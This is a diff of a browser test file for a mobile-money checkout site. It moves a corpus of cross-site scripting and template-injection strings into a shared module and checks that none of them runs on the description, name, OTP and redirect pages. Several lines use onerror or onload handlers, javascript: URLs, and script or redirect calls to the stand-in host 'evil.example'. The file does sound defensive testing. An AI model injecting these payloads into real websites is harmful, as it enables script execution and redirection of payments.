@@ -1,47 +1,9 @@
 // Pages that strangers write into: nothing of it runs, and no form of theirs is taken.
 
 import assert from 'node:assert/strict';
+import { CORPUS, NAME, checkNothingRan } from './corpus.mjs';
 import { Shop, Site, number } from './shop.mjs';
 import { anotherPayer, approve, stack, story } from './world.mjs';
-
-/** Each would set `window.ran`, open a dialog, add an element or break out of where it is put. */
-const CORPUS = [
-  '<script>ran=1</script>',
-  '"><script src=//evil.example/x.js></script>',
-  '<img src=x onerror=alert(1)>',
-  '"><svg/onload=ran=1>',
-  '\'"><iframe srcdoc="<script>top.ran=1</script>">',
-  '</title></style></textarea></script><script>ran=1</script>',
-  '" autofocus onfocus="ran=1',
-  'javascript:ran=1//',
-  '<a href="javascript:ran=1">x</a>',
-  '<style>*{display:none}</style><meta http-equiv=refresh content=0;url=//evil.example>',
-  '<base href=//evil.example/><form action=//evil.example><button>Pay</button>',
-  '{{7*7}}${7*7}<%= 7*7 %>{0}{1}{}',
-  '&lt;script&gt;ran=1&lt;/script&gt;&#60;img src=x onerror=ran=1&#62;',
-  '\u202e<b>\u0301\u{1f4a3}</b>',
-  '<!--<script>ran=1',
-  '`${ran=1}`',
-];
-
-/** Everything at once, as short as a name may be. */
-const NAME = '"\'><img src=x onerror=ran=1><script>ran=1</script></title>{0}{1}';
-
-/** What no page of ours has. */
-const STRANGE = [
-  'img, iframe, object, base, style, b, [http-equiv], [onfocus], [onload], [onerror]',
-  'script:not([src^="/assets/"]), a[href^="javascript"], form:not([action^="/pay/"])',
-].join();
-
-async function checkNothingRan(payer, text) {
-  const found = await payer.page.evaluate((strange) => ({
-    ran: window.ran,
-    strange: document.querySelectorAll(strange).length,
-    host: location.host,
-  }), STRANGE);
-  assert.deepEqual(found, { ran: undefined, strange: 0, host: new URL(payer.page.url()).host }, text);
-  assert.deepEqual(payer.faults, [], text);
-}
 
 story('descriptions are text', {}, async ({ shop, payer }) => {
   for (const text of CORPUS) {
@@ -49,7 +11,7 @@ story('descriptions are text', {}, async ({ shop, payer }) => {
     await payer.open(session);
     await payer.sees('form');
     assert.equal(await payer.page.locator('.description').textContent(), text);
-    await checkNothingRan(payer, text);
+    await checkNothingRan(payer, text, '/pay/');
   }
 });
 
@@ -63,24 +25,24 @@ story('names and what is typed are text, in every state', {}, async ({ payer, si
   await payer.pay({ network: 'Telecel Cash', number: NAME.slice(0, 30) });
   await payer.sees('form', 'There is a problem');
   assert.equal(await payer.page.locator('#mobile_number').inputValue(), NAME.slice(0, 30));
-  await checkNothingRan(payer, 'form');
+  await checkNothingRan(payer, 'form', '/pay/');
   await payer.pay({ network: 'Telecel Cash', number: number('002', '020') });
   await payer.sees('otp', NAME);
   await payer.page.locator('#otp').evaluate((input) => input.removeAttribute('maxlength'));
   await payer.enter('"><img src=x onerror=ran=1>');
   await payer.sees('otp', 'There is a problem');
-  await checkNothingRan(payer, 'otp');
+  await checkNothingRan(payer, 'otp', '/pay/');
   await payer.useUpCodes();
   await payer.sees('failed', NAME);
-  await checkNothingRan(payer, 'failed');
+  await checkNothingRan(payer, 'failed', '/pay/');
   await payer.page.getByRole('link', { name: 'Try again' }).click();
   await payer.pay({ network: 'MTN MoMo', number: from });
   await payer.sees('prompt', NAME);
-  await checkNothingRan(payer, 'prompt');
+  await checkNothingRan(payer, 'prompt', '/pay/');
   await payer.check('prompt, strange names');
   await approve(from);
   await payer.sees('success', NAME);
-  await checkNothingRan(payer, 'success');
+  await checkNothingRan(payer, 'success', '/pay/');
 });
 
 story('addresses are addresses', {}, async ({ shop, payer }) => {
@@ -93,17 +55,17 @@ story('addresses are addresses', {}, async ({ shop, payer }) => {
   const session = await shop.session({ redirect_url });
   await payer.open(session);
   await payer.sees('form');
-  await checkNothingRan(payer, redirect_url);
+  await checkNothingRan(payer, redirect_url, '/pay/');
   const link = payer.page.getByRole('link', { name: 'Cancel and return' });
   assert.equal(new URL(await link.getAttribute('href')).host, 'shop.example');
   for (const query of ['?lang="><script>ran=1</script>', '?again="><svg onload=ran=1>', '#"><b>']) {
     await payer.open(session.payment_url + query);
     await payer.sees('form');
-    await checkNothingRan(payer, query);
+    await checkNothingRan(payer, query, '/pay/');
   }
   await payer.open(`${stack.ready.checkout}/pay/${encodeURIComponent('"><script>ran=1</script>')}`);
   await payer.sees('unknown');
-  await checkNothingRan(payer, 'address');
+  await checkNothingRan(payer, 'address', '/pay/');
 });
 
 story('a form on another site pays nothing', {}, async ({ shop, payer }) => {
